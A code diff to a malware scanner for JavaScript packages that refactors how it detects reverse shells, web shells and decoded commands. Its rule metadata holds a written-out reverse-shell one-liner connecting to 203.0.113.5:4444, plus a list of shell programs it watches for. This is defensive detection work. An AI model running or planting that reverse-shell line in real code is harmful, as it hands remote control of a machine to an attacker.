@@ -21,7 +21,7 @@ type Spawn struct{}
 // Meta implements analyze.Rule.
 func (Spawn) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "proc/spawn", Version: 21, Title: "Starts processes",
+		ID: "proc/spawn", Version: 22, Title: "Starts processes",
 		Help: "The code runs commands through child_process (or execa, cross-spawn, shelljs, zx, Bun.spawn and Bun's $ shell, Deno.Command). " +
 			"Build tools and CLIs do this all the time; it is " +
 			"reported at low severity; as exfiltration when the command uploads a local file with curl (-F name=@file, --data-binary @file, " +
@@ -38,8 +38,7 @@ func (Spawn) Meta() analyze.Meta {
 			"the package's modules that starts processes (the command in probe.js, handed to native.js's wrapper of the spawn binding), or by install-time code that loads a module by a name it computes " +
 			"(Module._load of a name picked out of builtinModules). A shell command taken from the HTTP request a server handles (the headers, " +
 			"query, body, params or cookies of req, request, ctx.request or c.req, also through a variable or a decoding) is a web shell: " +
-			"critical. So is a file that opens a connection (net, tls, a WebSocket), starts a shell (sh, bash, cmd.exe, powershell, $SHELL) and pipes " +
-			"the connection into its stdin and its output back: a reverse shell. A command, or a shell's argument list, that comes out of a decoding at run time " +
+			"critical. A command, or a shell's argument list, that comes out of a decoding at run time " +
 			"(Buffer.from(…, \"base64\"), atob, zlib, a function of the file that decodes or returns what it decoded) is high, critical at install time: nobody reading " +
 			"the code sees what runs. A download-and-execute command handed to a " +
 			"method named like a process call (execSync, spawn…) on an object no analysis resolves (the module fetched back from module.children or " +
@@ -140,11 +139,6 @@ func localModules(t *analyze.Target, f rulekit.File) []string {
 // Check implements analyze.Rule.
 func (Spawn) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
 	for _, f := range rulekit.Code(ctx, t) {
-		if c := reverseShell(f.Facts); c != nil && !f.Facts.Bundle() {
-			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Confidence: finding.ConfidenceHigh,
-				Message:  "pipes a network connection into a shell it starts and the shell's output back: a reverse shell",
-				Evidence: rulekit.Ev(c.Snippet.String(), "", "")})
-		}
 		first := true
 		// a file that loads a process module may call it in ways no
 		// analysis follows (a getter returning execSync, Object.entries
@@ -509,18 +503,19 @@ type ReverseShell struct{}
 // Meta implements analyze.Rule.
 func (ReverseShell) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "proc/reverse-shell", Version: 3, Title: "Opens a reverse shell",
+		ID: "proc/reverse-shell", Version: 4, Title: "Opens a reverse shell",
 		Help: "One file opens a raw TCP connection and starts a shell (sh, bash, cmd.exe, PowerShell) whose input and output are piped to it. " +
 			"That hands an interactive shell on your machine to whoever listens at the other end. Counted when the shell is interactive (not told to run " +
 			"one fixed command with -c or -Command) and started near the connection: bundles that happen to contain a socket client and a " +
-			"powershell -Command helper are not reverse shells.",
+			"powershell -Command helper are not reverse shells. A shell chosen elsewhere in the file (spawn(shell, []), with \"/bin/sh\" or " +
+			"$SHELL picked earlier) counts when the file pipes into the process's stdin and out of its stdout or stderr.",
 		Remediation:     "Remove the package and treat the machine as compromised if it ran.",
 		Example:         `const s = net.connect(4444, "203.0.113.5", () => { const sh = spawn("/bin/sh"); s.pipe(sh.stdin); sh.stdout.pipe(s) })`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
 	}
 }
 
-var shells = map[string]bool{"sh": true, "bash": true, "zsh": true, "/bin/sh": true, "/bin/bash": true, "/bin/zsh": true, "/usr/bin/bash": true,
+var shells = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "/bin/sh": true, "/bin/bash": true, "/bin/zsh": true, "/usr/bin/bash": true,
 	"cmd": true, "cmd.exe": true, "powershell": true, "powershell.exe": true, "pwsh": true}
 
 // Check implements analyze.Rule.
@@ -542,8 +537,13 @@ func (ReverseShell) Check(ctx context.Context, t *analyze.Target, r analyze.Repo
 			}
 			cmd := rulekit.SpawnCommand(c)
 			if cmd == "" && len(c.Args) > 0 && !c.Args[0].Known {
-				// spawn(win ? "cmd.exe" : "/bin/sh", []): a shell either way
+				// spawn(win ? "cmd.exe" : "/bin/sh", []): a shell either way;
+				// spawn(shell, []) with the shell chosen elsewhere in the
+				// file, its input and output piped to and from the socket
 				cmd = quotedShell(c.Snippet.String())
+				if cmd == "" && pipedBothWays(f.Facts) {
+					cmd = namedShell(f.Facts)
+				}
 			}
 			// A reverse shell hands the socket an interactive shell, next
 			// to the connection; a shell told to run one fixed command
@@ -572,6 +572,32 @@ func quotedShell(snippet string) string {
 	return ""
 }
 
+// pipedBothWays reports a file that pipes something into a process's
+// stdin (sock.pipe(sh.stdin)) and a process's stdout or stderr into
+// something (sh.stdout.pipe(sock)).
+func pipedBothWays(f *jsast.Facts) bool {
+	in, out := false, false
+	for _, c := range f.Calls {
+		if rulekit.Last(c.Callee) != "pipe" || len(c.Args) == 0 {
+			continue
+		}
+		in = in || slices.Contains(c.Args[0].Names, "stdin")
+		out = out || strings.HasSuffix(c.Callee, ".stdout.pipe") || strings.HasSuffix(c.Callee, ".stderr.pipe")
+	}
+	return in && out
+}
+
+// namedShell returns a shell a string of the file names ("/bin/sh",
+// "cmd.exe"); "" if none.
+func namedShell(f *jsast.Facts) string {
+	for _, s := range f.Strings {
+		if shells[strings.ToLower(s.Value)] {
+			return s.Value
+		}
+	}
+	return ""
+}
+
 // fixedCommand matches shell flags that run a given command and exit.
 var fixedCommand = regexp.MustCompile(`(?i)\s(-c|/c|-command|-encodedcommand|-file)\s+\S`)
 
@@ -584,51 +610,5 @@ func shellCall(c jsast.Call) bool {
 			return true
 		}
 	}
-	switch rulekit.Program(rulekit.SpawnCommand(c)) {
-	case "sh", "bash", "zsh", "dash", "cmd", "powershell", "pwsh":
-		return true
-	}
-	return false
-}
-
-// reverseShell returns the spawn of a file that opens a connection
-// (net.connect, tls.connect, a WebSocket), starts a shell (a shell program
-// named in the call or among the file's strings: /bin/sh, bash, cmd.exe,
-// powershell) and pipes the connection into the process's stdin and its
-// stdout or stderr back; nil if not.
-func reverseShell(f *jsast.Facts) *jsast.Call {
-	var spawn *jsast.Call
-	conn, in, out := false, false, false
-	for i, c := range f.Calls {
-		switch {
-		case rulekit.IsSpawn(c):
-			if spawn == nil {
-				spawn = &f.Calls[i]
-			}
-		case rulekit.Last(c.Callee) == "connect" || rulekit.Last(c.Callee) == "createConnection" || c.Callee == "WebSocket":
-			r := rulekit.Root(c.Callee)
-			conn = conn || r == "net" || r == "tls" || c.Callee == "WebSocket" || r == "ws"
-		case rulekit.Last(c.Callee) == "pipe" && len(c.Args) > 0:
-			if slices.Contains(c.Args[0].Names, "stdin") {
-				in = true
-			}
-			if strings.HasSuffix(c.Callee, ".stdout.pipe") || strings.HasSuffix(c.Callee, ".stderr.pipe") {
-				out = true
-			}
-		}
-	}
-	if spawn == nil || !conn || !in || !out {
-		return nil
-	}
-	switch rulekit.Program(rulekit.SpawnCommand(*spawn)) {
-	case "sh", "bash", "zsh", "dash", "cmd", "powershell", "pwsh":
-		return spawn
-	}
-	for _, s := range f.Strings {
-		switch s.Value {
-		case "/bin/sh", "/bin/bash", "sh", "bash", "cmd.exe", "powershell.exe", "powershell":
-			return spawn
-		}
-	}
-	return nil
+	return shells[rulekit.Program(rulekit.SpawnCommand(c))]
 }
